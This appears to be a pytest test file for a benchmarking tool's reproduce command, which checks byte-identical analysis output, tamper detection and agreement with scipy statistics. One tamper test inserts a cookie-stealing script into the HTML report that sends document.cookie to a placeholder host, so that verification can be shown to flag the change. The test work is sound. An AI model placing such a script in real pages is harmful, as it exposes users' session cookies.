"""``benchlab reproduce --analysis-only``: the analysis and the report re-run from the bundle's
data match the bundled ones byte for byte, in another process with another locale, time zone,
hash seed and working directory; the numbers agree with scipy computed from the raw data."""

from __future__ import annotations

import hashlib
import io
import json
import os
import tarfile

import numpy as np
import pytest
from scipy import stats

from tests.bundle.test_archive import members_of
from tests.cli.forked import run_cli


def test_analysis_only_is_identical_byte_for_byte(bundled, tmp_path):
    env = {"TZ": "Pacific/Kiritimati", "LANG": "de_DE.UTF-8", "LC_ALL": "C.UTF-8",
           "PYTHONHASHSEED": "12345"}
    proc = run_cli("reproduce", str(bundled), "--analysis-only", "--show-report",
                   cwd=tmp_path, env=env)
    assert proc.returncode == 0, proc.stderr
    members = members_of(bundled)
    analysis = hashlib.sha256(members["analysis/analysis.json"]).hexdigest()
    report = hashlib.sha256(members["report/report.md"]).hexdigest()
    assert f"analysis.json: identical (sha256 {analysis})" in proc.stdout
    assert f"report.md:     identical (sha256 {report})" in proc.stdout
    assert members["report/report.md"].decode() in proc.stdout  # the report itself is shown


def test_a_changed_number_is_detected(bundled, tmp_path):
    """A bundle whose data was edited AND re-signed (manifest digests recomputed) is readable,
    but its analysis no longer matches the bundled one: exit 1, DIFFERENT."""
    members = members_of(bundled)
    data = json.loads(members["data/sessions.json"])
    run = next(r for r in data["sessions"][0]["benchmarks"][0]["runs"] if not r["warmup"])
    run["wall_ns"] = run["wall_ns"] * 3
    members["data/sessions.json"] = json.dumps(data).encode()
    manifest = json.loads(members.pop("manifest.json"))
    for entry in manifest["members"]:
        entry["sha256"] = hashlib.sha256(members[entry["name"]]).hexdigest()
        entry["size"] = len(members[entry["name"]])
    out = tmp_path / "edited.benchlab.tar.gz"
    with tarfile.open(out, "w:gz") as tar:
        for name, blob in [("manifest.json", json.dumps(manifest).encode()), *members.items()]:
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    proc = run_cli("reproduce", str(out), "--analysis-only")
    assert proc.returncode == 1, proc.stderr
    assert "analysis.json: DIFFERENT" in proc.stdout


def test_a_script_added_to_the_html_report_is_detected(bundled, tmp_path):
    """The HTML report is verified too: a ``<script>`` added to it, with the manifest's digest
    recomputed to match, is DIFFERENT (exit 1), while the analysis and Markdown stay identical."""
    members = members_of(bundled)
    html = members["report/report.html"].decode()
    assert "</body>" in html
    members["report/report.html"] = html.replace(
        "</body>", "<script>fetch('https://example.invalid/?'+document.cookie)</script></body>"
    ).encode()
    manifest = json.loads(members.pop("manifest.json"))
    for entry in manifest["members"]:
        entry["sha256"] = hashlib.sha256(members[entry["name"]]).hexdigest()
        entry["size"] = len(members[entry["name"]])
    out = tmp_path / "script.benchlab.tar.gz"
    with tarfile.open(out, "w:gz") as tar:
        for name, blob in [("manifest.json", json.dumps(manifest).encode()), *members.items()]:
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    proc = run_cli("reproduce", str(out), "--analysis-only")
    assert proc.returncode == 1, proc.stderr
    assert "report.html:   DIFFERENT" in proc.stdout
    assert "analysis.json: identical" in proc.stdout and "report.md:     identical" in proc.stdout


def test_bundled_numbers_match_scipy_on_the_raw_data(bundled):
    members = members_of(bundled)
    data = json.loads(members["data/sessions.json"])["sessions"][0]
    analysis = json.loads(members["analysis/analysis.json"])["sessions"][0]
    walls = {}
    for bench in data["benchmarks"]:
        walls[bench["name"]] = np.array(
            [r["wall_ns"] - (r["shell_overhead_ns"] or 0) for r in bench["runs"]
             if not r["warmup"] and r["status"] == "ok"], dtype=float)
        got = analysis["benchmarks"][bench["name"]]["series"]
        assert (got["metric"], got["unit"]) == ("wall", "ns")
        assert got["n"] == walls[bench["name"]].size == 10
        assert got["median"] == pytest.approx(np.median(walls[bench["name"]]), rel=1e-11)
        assert got["sd"] == pytest.approx(np.std(walls[bench["name"]], ddof=1), rel=1e-11)
    comparison = analysis["comparisons"]["comparisons"][0]
    assert (comparison["name_a"], comparison["name_b"]) == ("array", "map")
    mw = comparison["mann_whitney"]
    expected = stats.mannwhitneyu(walls["array"], walls["map"], alternative="two-sided",
                                  method=mw["method"])
    assert mw["p_value"] == pytest.approx(expected.pvalue, rel=1e-9)
    assert mw["statistic"] == pytest.approx(expected.statistic)
    shifts = np.subtract.outer(walls["array"], walls["map"]).ravel()
    assert comparison["hodges_lehmann"]["estimate"] == pytest.approx(np.median(shifts), rel=1e-11)
    # the order book's array is faster than its map (the JayBeams analysis), decided at 10 runs each
    assert comparison["outcome"] == "faster"


def test_every_float_is_rounded_to_twelve_digits(bundled):
    analysis = json.loads(members_of(bundled)["analysis/analysis.json"])

    def floats(value):
        if isinstance(value, dict):
            for v in value.values():
                yield from floats(v)
        elif isinstance(value, list):
            for v in value:
                yield from floats(v)
        elif isinstance(value, float):
            yield value

    values = list(floats(analysis))
    assert values and all(float(f"{v:.12g}") == v for v in values)
    assert analysis["seed"] == 1 and analysis["digits"] == 12
    assert os.path.basename(str(bundled)).endswith(".benchlab.tar.gz")


def test_other_library_versions_give_a_warning(bundled, tmp_path):
    members = members_of(bundled)
    software = json.loads(members["provenance/software.json"])
    software["scipy"] = "0.19.0"
    members["provenance/software.json"] = json.dumps(software).encode()
    manifest = json.loads(members.pop("manifest.json"))
    for entry in manifest["members"]:
        entry["sha256"] = hashlib.sha256(members[entry["name"]]).hexdigest()
    out = tmp_path / "old-scipy.benchlab.tar.gz"
    with tarfile.open(out, "w:gz") as tar:
        for name, blob in [("manifest.json", json.dumps(manifest).encode()), *members.items()]:
            info = tarfile.TarInfo(name)
            info.size = len(blob)
            tar.addfile(info, io.BytesIO(blob))
    proc = run_cli("reproduce", str(out), "--analysis-only")
    assert proc.returncode == 0, proc.stderr
    assert "warning: scipy 0.19.0 made the bundle" in proc.stderr
